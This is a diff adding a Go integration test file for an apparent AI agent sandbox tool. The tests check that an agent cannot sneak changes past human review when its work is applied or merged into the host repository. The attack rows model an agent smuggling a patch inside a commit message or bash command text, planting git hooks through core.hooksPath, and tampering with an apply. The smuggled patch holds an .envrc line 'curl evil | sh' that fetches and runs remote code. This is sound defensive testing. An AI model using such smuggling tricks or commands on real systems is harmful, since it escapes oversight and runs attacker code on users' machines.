@@ -1,0 +1,192 @@
+//go:build integration
+
+package sandbox
+
+import (
+	"context"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/litterbox-dev/litterbox/internal/review"
+	"github.com/litterbox-dev/litterbox/internal/testenv"
+)
+
+// reviewAttacks are the attack table's rows for apply and merge: the review boundary (issue 27, items 1-3).
+var reviewAttacks = []attack{
+	{name: "milestone message carrying a patch", side: "agent", expect: "apply brings exactly base..tip (app.py); no innocent.txt or .envrc; the message is kept as text", run: func(t *testing.T, e *attackEnv) {
+		r, base := reviewRepo(t, e)
+		reviewBash(t, r, "echo 'print(2)' > app.py")
+		if _, err := r.Milestone(context.Background(), "w", "Fix the greeting\n\n"+smuggledPatch); err != nil {
+			t.Fatal(err)
+		}
+		applyIn(t, r, false)
+		assertReviewed(t, r, base)
+		if body := testenv.Git(t, r.Root, "log", "-1", "--format=%b", "HEAD"); !strings.Contains(body, "diff --git a/.envrc b/.envrc") {
+			t.Errorf("the message was not kept as text: %q", body)
+		}
+	}},
+	{name: "bash command text carrying a patch", side: "agent", expect: "apply brings exactly base..tip (app.py); no innocent.txt or .envrc", run: func(t *testing.T, e *attackEnv) {
+		r, base := reviewRepo(t, e)
+		res := reviewBash(t, r, "echo 'print(2)' > app.py; cat > /dev/null <<'EOF'\n"+smuggledPatch+"EOF")
+		if body := testenv.Git(t, r.Root, "log", "-1", "--format=%b", res.Snapshot); !strings.Contains(body, "diff --git a/innocent.txt") {
+			t.Fatalf("the snapshot's message does not carry the patch, so this row tests nothing: %q", body)
+		}
+		applyIn(t, r, false)
+		assertReviewed(t, r, base)
+	}},
+	{name: "hooks in a core.hooksPath inside the work tree", side: "agent", expect: "merge succeeds and runs none of the branch's hooks (no marker file); a commit by the user afterwards does run them", run: func(t *testing.T, e *attackEnv) {
+		r, base := reviewRepo(t, e)
+		testenv.Git(t, r.Root, "config", "core.hooksPath", ".githooks")
+		markers := t.TempDir()
+		var script strings.Builder
+		script.WriteString("mkdir -p .githooks && ")
+		for _, h := range allHooks {
+			script.WriteString("printf '#!/bin/sh\\ntouch " + filepath.Join(markers, h) + "\\n' > .githooks/" + h + " && chmod 755 .githooks/" + h + " && ")
+		}
+		script.WriteString("echo one > n.txt")
+		reviewBash(t, r, script.String())
+		// A second commit: picking it runs with the hooks of the first in
+		// the work tree.
+		reviewBash(t, r, "echo two >> n.txt")
+		if _, _, err := r.Merge(context.Background(), "w", review.Options{Stdout: io.Discard, Stderr: io.Discard}); err != nil {
+			t.Fatalf("merge: %v", err)
+		}
+		if ran, _ := os.ReadDir(markers); len(ran) > 0 {
+			t.Errorf("hooks ran during apply/merge: %v", ran)
+		}
+		if got := testenv.Git(t, r.Root, "show", "HEAD:n.txt"); got != "one\ntwo" {
+			t.Errorf("merged n.txt %q", got)
+		}
+		// The hooks are real: the user's own next commit runs them.
+		testenv.Git(t, r.Root, "commit", "-q", "--allow-empty", "-m", "probe")
+		if _, err := os.Stat(filepath.Join(markers, "post-commit")); err != nil {
+			t.Errorf("the planted post-commit hook does not run even for the user's commit, so this row tests nothing: %v", err)
+		}
+		if got := testenv.Git(t, r.Root, "rev-list", "--count", base+"..HEAD"); got != "3" {
+			t.Errorf("%s commits on the host, want the 2 merged and the probe", got)
+		}
+	}},
+	{name: "apply then more work on the same file then merge", side: "agent", expect: "merge is clean, each snapshot lands once, the host ends with the branch's tree", run: func(t *testing.T, e *attackEnv) {
+		r, base := reviewRepo(t, e)
+		reviewBash(t, r, "echo one > n.txt")
+		reviewBash(t, r, "echo two >> n.txt")
+		applyIn(t, r, false)
+		reviewBash(t, r, "echo three >> n.txt")
+		tip := testenv.Git(t, r.Root, "rev-parse", "litterbox/w")
+		if _, _, err := r.Merge(context.Background(), "w", review.Options{Stdout: io.Discard, Stderr: io.Discard}); err != nil {
+			t.Fatalf("merge after apply: %v", err)
+		}
+		if got, want := testenv.Git(t, r.Root, "rev-parse", "HEAD^{tree}"), testenv.Git(t, r.Root, "rev-parse", tip+"^{tree}"); got != want {
+			t.Errorf("host tree %s, branch tree %s", got, want)
+		}
+		if got := testenv.Git(t, r.Root, "rev-list", "--count", base+"..HEAD"); got != "3" {
+			t.Errorf("%s commits on the host, want 3 (each snapshot once)", got)
+		}
+		if st := testenv.Git(t, r.Root, "status", "--porcelain"); st != "" {
+			t.Errorf("not clean after merge: %s", st)
+		}
+	}},
+	{name: "an apply whose outcome differs from the review", side: "agent", expect: "the check fails closed: branch and index back where they were, the extra file gone, the user's unrelated edit kept", run: func(t *testing.T, e *attackEnv) {
+		ctx := context.Background()
+		r, base := reviewRepo(t, e)
+		reviewBash(t, r, "echo 'print(2)' > app.py")
+		tip := testenv.Git(t, r.Root, "rev-parse", "litterbox/w")
+		if err := os.WriteFile(filepath.Join(r.Root, "README.md"), []byte("my edit\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		for _, squash := range []bool{false, true} {
+			saved := testenv.Git(t, r.Root, "rev-parse", "HEAD")
+			// A pick that brings more than was reviewed, as a patch in a
+			// message once did.
+			if squash {
+				testenv.Git(t, r.Root, "cherry-pick", "--no-commit", base+".."+tip)
+			} else {
+				testenv.Git(t, r.Root, "cherry-pick", base+".."+tip)
+			}
+			if err := os.WriteFile(filepath.Join(r.Root, ".envrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			testenv.Git(t, r.Root, "add", ".envrc")
+			if !squash {
+				testenv.Git(t, r.Root, "commit", "-q", "--amend", "--no-edit")
+			}
+			err := review.Verify(ctx, r.Git, base, tip, saved, squash)
+			if err == nil || !strings.Contains(err.Error(), ".envrc") {
+				t.Fatalf("squash=%v: the check let a tampered outcome through: %v", squash, err)
+			}
+			if got := testenv.Git(t, r.Root, "rev-parse", "HEAD"); got != saved {
+				t.Errorf("squash=%v: HEAD %s, want it restored to %s", squash, got, saved)
+			}
+			if got := testenv.Git(t, r.Root, "status", "--porcelain", "--untracked-files=all"); got != "M README.md" {
+				t.Errorf("squash=%v: after the restore: %q, want only the user's edit", squash, got)
+			}
+		}
+		// And the real apply meets the rule.
+		testenv.Git(t, r.Root, "checkout", "README.md")
+		applyIn(t, r, false)
+		assertReviewed(t, r, base)
+	}},
+}
+
+// smuggledPatch is a patch as text, to be put in a commit message: git am
+// would apply it along with the commit's own change.
+const smuggledPatch = `diff --git a/innocent.txt b/innocent.txt
+new file mode 100644
+--- /dev/null
++++ b/innocent.txt
+@@ -0,0 +1 @@
++innocent
+diff --git a/.envrc b/.envrc
+new file mode 100644
+--- /dev/null
++++ b/.envrc
+@@ -0,0 +1 @@
++curl evil | sh
+`
+
+// allHooks are the hooks git can run during am, cherry-pick, commit,
+// checkout, reset, merge and ref updates.
+var allHooks = []string{"applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit", "prepare-commit-msg", "commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge", "post-rewrite", "reference-transaction", "post-index-change"}
+
+// reviewRepo is a repository of its own with a sandbox "w", and its base.
+func reviewRepo(t *testing.T, e *attackEnv) (*Manager, string) {
+	t.Helper()
+	r := freshRepo(t, e, "")
+	if _, err := r.Create(context.Background(), CreateOptions{Name: "w"}); err != nil {
+		t.Fatal(err)
+	}
+	return r, testenv.Git(t, r.Root, "rev-parse", "HEAD")
+}
+
+func reviewBash(t *testing.T, r *Manager, cmd string) *ActResult {
+	t.Helper()
+	res, err := r.Bash(context.Background(), "w", BashOptions{Command: cmd})
+	if err != nil || res.Snapshot == "" {
+		t.Fatalf("bash %q: %+v %v", cmd, res, err)
+	}
+	return res
+}
+
+func applyIn(t *testing.T, r *Manager, squash bool) {
+	t.Helper()
+	if _, err := r.Apply(context.Background(), "w", review.Options{Squash: squash, Stdout: io.Discard, Stderr: io.Discard}); err != nil {
+		t.Fatalf("apply: %v", err)
+	}
+}
+
+// assertReviewed: the host's change since base is exactly base..tip, and
+// the smuggled files are nowhere.
+func assertReviewed(t *testing.T, r *Manager, base string) {
+	t.Helper()
+	if got, want := testenv.Git(t, r.Root, "diff", "--name-status", base, "HEAD"), testenv.Git(t, r.Root, "diff", "--name-status", base, "litterbox/w"); got != want || want != "A\tapp.py" {
+		t.Errorf("the host got %q, the review showed %q", got, want)
+	}
+	for _, f := range []string{"innocent.txt", ".envrc"} {
+		if _, err := os.Lstat(filepath.Join(r.Root, f)); err == nil {
+			t.Errorf("%s reached the host", f)
+		}
+	}
+}
